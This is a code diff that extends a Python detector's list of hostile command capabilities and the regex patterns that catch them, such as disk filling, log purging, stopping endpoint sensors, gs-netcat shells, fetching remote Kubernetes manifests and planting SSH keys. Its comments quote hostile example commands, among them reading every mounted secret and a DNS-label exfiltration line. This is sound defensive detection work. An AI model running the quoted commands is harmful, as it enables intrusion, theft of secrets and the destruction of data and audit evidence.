@@ -165,6 +165,14 @@ class Capability(StrEnum):
     )
     # -- records altered and their audit trail removed (OUT-LOG-WIPE) --
     AUDIT_ROWS_DELETED = "deletes rows of an application's audit or change-history table"
+    DISK_FILLED = (
+        "writes a file sized to all of a disk's free space, or one from a zero or random source "
+        "with no count (a command line)"
+    )
+    TRANSACTION_LOG_DISCARDED = (
+        "discards a database's transaction or binary log (recovery set to simple and the log "
+        "shrunk, the log backed up to nowhere, binary logs purged)"
+    )
     PAYMENT_RECORD_SET = (
         "rewrites payment details or balances in a table (bank account, payee, amount)"
     )
@@ -554,7 +562,16 @@ class Capability(StrEnum):
         "writes an installer image file onto a removable or second drive (a command line)"
     )
     COMMAND_UNFOLDED = (
-        "hides a command in a brace list or runs a download's output as a command (a command line)"
+        "hides a command in a brace list or written backwards, or runs a download's output as a "
+        "command (a command line)"
+    )
+    AIM_ON_OTHERS_DEVICE = (
+        "says in its comment that it breaks into, takes the data of or knocks down someone "
+        "else's device, account or network (a command line)"
+    )
+    AIM_KEPT_FROM_OWNER = (
+        "says in its comment that it is hidden from the system's admins or owner, or done so "
+        "they cannot restore or notice (a command line)"
     )
     MAIL_IMPERSONATION = (
         "mails an urgent payment or account lure in a name whose replies go elsewhere, through "
@@ -1287,6 +1304,9 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
         re.compile(r"Stdio::from_raw_fd\s*\(|\bfrom_raw_fd\s*\(\s*\w*fd", _I),
+        # one value as a child's standard input and output, by two statements (Go's `cmd.Stdin
+        # = c; cmd.Stdout = c`); `os.Stdin` and `os.Stdout` are the program's own streams
+        re.compile(r"\.Stdin\s*=\s*(\w+)\s*[;\n][^\n]{0,80}?\.Stdout\s*=\s*\1\b(?!\.)"),
         re.compile(
             r"\.Stdin\s*(?:,[^=\n]*)?=\s*\w*conn\b|Invoke-PowerShellTcp\b|Invoke-ConPtyShell\b", _I
         ),
@@ -1766,8 +1786,30 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
     ),
     Capability.AUDIT_ROWS_DELETED: (
+        # (named by its schema, or by its database and schema too: `AppDB.dbo.AuditLog`)
         re.compile(
-            r"\b(?:DELETE\s+FROM|TRUNCATE\s+(?:TABLE\s+)?|DROP\s+TABLE\s+(?:IF\s+EXISTS\s+)?)\s*[\[`\"]?(?:\w+[\]`\"]?\.[\[`\"]?)?\w*(?:audit|history|changelog|activity_?log)\w*",
+            r"\b(?:DELETE\s+FROM|TRUNCATE\s+(?:TABLE\s+)?|DROP\s+TABLE\s+(?:IF\s+EXISTS\s+)?)\s*[\[`\"]?(?:\w+[\]`\"]?\.[\[`\"]?){0,2}\w*(?:audit|history|changelog|activity_?log)\w*",
+            _I,
+        ),
+    ),
+    # a disk's free space taken whole: a file allocated at the size `df` reports free, or
+    # written from a zero or random source with no count, until nothing is left (a swap file
+    # or an image of a set size, `count=4096`, `fallocate -l 4G`, is not)
+    Capability.DISK_FILLED: (
+        re.compile(
+            r"\bfallocate\s(?>[^\n|;&]{0,40}?-l)\s*['\"]?\$\(\s*df\b[^\n)]{0,120}?\bavail"
+            r"|\bdd\s+if=/dev/u?(?:zero|random)\s+of=(?!/dev/)[^\s;&|]+(?![^\n|;&]{0,200}?\bcount=)",
+            _I,
+        ),
+    ),
+    # the log that could bring deleted rows back thrown away: SQL Server's recovery set to
+    # simple and its log file shrunk, or the log backed up to the null device; MySQL's binary
+    # logs purged or reset
+    Capability.TRANSACTION_LOG_DISCARDED: (
+        re.compile(
+            r"\bSET\s+RECOVERY\s+SIMPLE\b[^\n]{0,400}?\bSHRINKFILE\b"
+            r"|\bBACKUP\s+LOG\s+\S+\s+TO\s+DISK\s*=\s*N?'NUL:?'"
+            r"|\bPURGE\s+(?:BINARY|MASTER)\s+LOGS\b|\bRESET\s+MASTER\b",
             _I,
         ),
     ),
@@ -2744,6 +2786,14 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"|sc(?:\.exe)?\s+(?:stop|delete|config)\s+(?:WinDefend|Sense|MsMpSvc)|taskkill[^\n]*(?:MsMpEng|CSFalcon|SentinelAgent)",
             _I,
         ),
+        # another vendor's endpoint sensor stopped or its service deleted by the service
+        # manager (`sc stop CSFalconService`, `sc.exe delete SentinelAgent`); querying one is not
+        re.compile(
+            r"\bsc(?:\.exe)?\s+(?:stop|delete)\s+['\"]?(?:CSFalcon\w*|SentinelAgent|SentinelStaticEngine"
+            r"|CbDefense|CarbonBlack|MsSense|SenseNdr|TaniumClient|CylanceSvc|xagt|ekrn|SAVService"
+            r"|Sophos\w*|elastic-agent|ElasticEndpoint|Sysmon\w*|ossec\w*|WazuhSvc)\b",
+            _I,
+        ),
         # scripts or their interpreters excluded from scanning: whatever runs through them is
         # unseen (a build tree or a compiler excluded for speed is a path or a tool of one's own)
         re.compile(
@@ -3453,8 +3503,9 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
         re.compile(
-            # (a variable named like the verb, `${HOST}-${STAMP}.tar.gz`, looks nothing up)
-            r"(?<![${])\b(?:nslookup|dig|host|Resolve-DnsName|resolve|query|gethostbyname|getaddrinfo|lookup)\b(?![}])[^\n]*(?:%%?\w+%?|\$\{?\w+\}?|\{\w+\})\.[\w-]+\.[\w-]+",
+            # (a variable named like the verb, `${HOST}-${STAMP}.tar.gz`, looks nothing up; a
+            # variable's expansion is a label too: `dig ${chunk//=/}.x.example`)
+            r"(?<![${])\b(?:nslookup|dig|host|Resolve-DnsName|resolve|query|gethostbyname|getaddrinfo|lookup)\b(?![}])[^\n]*(?:%%?\w+%?|\$\{?\w+\}?|\$\{\w+[^{}\s]{1,30}\}|\{\w+\})\.[\w-]+\.[\w-]+",
             _I,
         ),
     ),
@@ -3549,9 +3600,10 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"/etc/kubernetes/(?:(?:super-)?admin|controller-manager|scheduler|kubelet)\.conf\b|/etc/kubernetes/pki(?:/\S*\.key)?\b",
             _I,
         ),
-        # a pod's service-account token, its key to the cluster's API
+        # a pod's service-account token, its key to the cluster's API, or every secret mounted
+        # into a container at once (`cat /run/secrets/*`)
         re.compile(
-            r"/(?:var/)?run/secrets/kubernetes\.io/serviceaccount/token\b|/run/secrets/eks\.amazonaws\.com/serviceaccount/token\b",
+            r"/(?:var/)?run/secrets/\*|/(?:var/)?run/secrets/kubernetes\.io/serviceaccount/token\b|/run/secrets/eks\.amazonaws\.com/serviceaccount/token\b",
             _I,
         ),
         # a server's TLS private keys packed into a dot-file in a scratch folder (`tar czf
@@ -4703,6 +4755,16 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         ),
     ),
     Capability.RUN_DOWNLOADED: (
+        # a cluster's manifest applied straight from a bare public address (`kubectl -n
+        # kube-system apply -f https://203.0.113.66/ds.yaml`): whatever that host serves runs in
+        # the cluster (a project's manifest by its release address is an installer's)
+        re.compile(
+            r"\b(?:kubectl|oc)\s(?>[^\n|;&]{0,80}?\b(?:apply|create|replace)\b)[^\n|;&]{0,80}?"
+            r"(?:-f|--filename)[= ]\s*['\"]?https?://(?!127\.|0\.|169\.254\.|"
+            + PRIVATE_IPV4
+            + r")\d{1,3}(?:\.\d{1,3}){3}(?=[:/'\"\s]|$)",
+            _I,
+        ),
         # a DNS TXT answer piped into a shell (`dig +short TXT x.zone | base64 -d | sh`)
         re.compile(
             r"\b(?:dig|nslookup|host|drill|kdig)\b(?>[^\n|]*?\bTXT\b)[^\n]*?\|\s*(?:[^\n|]*\|\s*)*?"
@@ -5100,6 +5162,9 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
         re.compile(r"wipefs\s+(?:-\w*a\w*|--all)\b[^\n|;]*/dev/", _I),
+        # a RAID member's metadata erased (`mdadm --zero-superblock /dev/sdb1`): the array's
+        # data is unreadable as a whole, as a partition table zapped (examining one is not)
+        re.compile(r"\bmdadm\s(?>[^\n|;]{0,120}?--zero-superblock\b)[^\n|;]{0,200}?/dev/", _I),
         # (a device's flash partitions too: `of=/dev/mtdblock3` bricks a router or a camera)
         re.compile(
             r"\bof=/dev/(?:sd[a-z]|nvme\d|vd[a-z]|hd[a-z]|xvd[a-z]|mmcblk\d|r?disk\d|md\d|mapper/|mtd(?:block)?\d)",
@@ -5253,6 +5318,12 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             + r"(?!\d)"
             r"|\bngrok\s+tcp\s+(?:[\w.-]+:)?" + _LOGIN_PORT + r"(?!\d)",
             _I,
+        ),
+        # a shell served through GSocket's public relay to whoever holds the secret
+        # (`gs-netcat -s SECRET -l -i`, `-liD`): a login reachable from anywhere, behind no
+        # firewall's say; the client (`gs-netcat -s SECRET -i`) or a forwarded port is not one
+        re.compile(
+            r"\bgs-netcat\b(?=[^\n|;&]{0,200}?\s-[a-zA-Z]*l)(?=[^\n|;&]{0,200}?\s-[a-zA-Z]*i)",
         ),
         # the same port published by an onion service (torrc's `HiddenServicePort 22
         # 127.0.0.1:22`, or a virtual port alone, which is its own target), by a quick tunnel
@@ -5864,9 +5935,8 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"|\.set\s*\(\s*['\"][^'\"\n]*['\"]\s*,\s*[fb]?['\"`](?:\\r)?\\n(?:\\r)?\\n",
             _I,
         ),
-        re.compile(
-            r"\b(?:cat|type)\s+\S*\.ssh/id_\w+\.pub\b[^\n]*\|\s*redis-cli\b[^\n]*\s-x\b", _I
-        ),
+        # (any public key file: `cat attacker_key.pub`, `(printf '\n\n'; cat k.pub) | redis-cli -x`)
+        re.compile(r"\b(?:cat|type)\s+\S*\.pub\b[^\n]*\|\s*redis-cli\b[^\n]*\s-x\b", _I),
         re.compile(
             r"\bssh-keygen\b[^\n]*-N\s*(?:''|\"\")[^\n]*>>\s*\S*authorized_keys|\b(?:cat|type)\s+/tmp/\S+\.pub\s*>>\s*\S*authorized_keys",
             _I,
@@ -5874,7 +5944,8 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         re.compile(r"(?:curl|wget)\b[^\n]*>>?\s*\S*authorized_keys", _I),
         re.compile(
             # (also right after an escaped line break, `"\n\nssh-ed25519 AAAA..."`)
-            r"(?:\b|(?<=\\n))ssh-(?:rsa|ed25519|dss|ecdsa\S*)\s+AAAA"
+            # (or the key's body elided by a placeholder: `ssh-rsa <BASE64_KEY>`, `<pubkey>`)
+            r"(?:\b|(?<=\\n))ssh-(?:rsa|ed25519|dss|ecdsa\S*)\s+(?:AAAA|<[\w.-]{1,40}>)"
             r"|(?:curl|wget)\b(?>[^\n]*?(?:\.pub|keys)\b)[^\n]*authorized_keys",
             _I,
         ),
@@ -7064,6 +7135,14 @@ _PACKAGE_PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"|\bRCLONE_CONFIG=['\"]?"
             + _SCRATCH_FOLDER
             + r"/(?:[^\s'\"/]+/)*\.[^\s'\"/]+['\"]?\s+rclone\b",
+            _I,
+        ),
+        # the same for a copy over SSH whose key is such a dot-file (`rsync -az /home/ u@HOST:/d
+        # -e 'ssh -i /tmp/.k'`, `scp -i /dev/shm/.id ...`); a key kept in `~/.ssh` or a CI's
+        # named key file (`/tmp/deploy_key`) is one's own, and rsync's own `-i` itemizes
+        re.compile(
+            r"\b(?:rsync\b[^\n|;&]{0,300}?\bssh\b[^\n|;&'\"]{0,100}?|(?:scp|sftp)\b[^\n|;&]{0,200}?)"
+            r"\s-i\s*['\"]?" + _SCRATCH_FOLDER + r"/(?:[^\s'\"/]+/)*\.[^\s'\"/]+",
             _I,
         ),
     ),
